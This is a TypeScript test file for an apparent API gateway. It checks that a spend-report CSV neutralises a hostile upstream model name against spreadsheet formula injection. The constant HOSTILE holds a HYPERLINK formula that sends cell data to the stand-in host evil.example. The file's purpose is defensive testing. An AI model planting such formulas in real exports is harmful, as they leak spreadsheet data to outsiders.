/**
 * Spend-report CSV over HTTP with a hostile upstream model name (operators configure it, upstreams
 * echo it): the cell a spreadsheet would run as a formula is neutralised (OWASP), the computed
 * figures stay numbers.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { Governance, messageBody, postMessages } from '../messages/support.js';
import { call } from '../support/gateway.js';
import {
  PRICE,
  type SimulatedGateway,
  simulatedUpstreamConfig,
  startSimulatedGateway,
} from '../support/simulated-gateway.js';

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const HOUR = 3_600_000;
let gateway: SimulatedGateway;
let key: string;

beforeAll(async () => {
  gateway = await startSimulatedGateway({
    config: {
      models: [
        ...simulatedUpstreamConfig('http://unused').models,
        {
          alias: 'hostile',
          targets: [{ connection: 'vendora.messages.2023-06-01', model: HOSTILE, price: PRICE }],
        },
      ],
    },
  });
  key = await gateway.key('prj_a');
  const run = await new Governance(gateway.url, key).run(1_000_000);
  const answer = await postMessages(gateway.url, key, messageBody('hostile'), { 'x-svc-run-id': run.id });
  expect(answer.status, JSON.stringify(answer.body)).toBe(200);
}, 60_000);
afterAll(async () => gateway?.close());

it('a spend CSV writes a formula-like upstream model as quoted text with a leading quote', async () => {
  const from = new Date(Math.floor(Date.now() / HOUR) * HOUR - HOUR).toISOString();
  const to = new Date(Math.floor(Date.now() / HOUR) * HOUR + 2 * HOUR).toISOString();
  const csv = await call(
    gateway.url,
    'GET',
    `/svc/v1/reports/spend?from=${from}&to=${to}&group_by=upstream_model`,
    {
      key,
      headers: { accept: 'text/csv' },
    },
  );
  expect(csv.status).toBe(200);
  const lines = String(csv.body).trim().split('\r\n');
  expect(lines).toHaveLength(2);
  const escaped = `"'${HOSTILE.replace(/"/g, '""')}"`;
  expect(lines[1]!.startsWith(`${escaped},1,`)).toBe(true);
  const figures = lines[1]!.slice(escaped.length + 1).split(',');
  expect(figures.every((figure) => /^\d+$/.test(figure))).toBe(true);
});
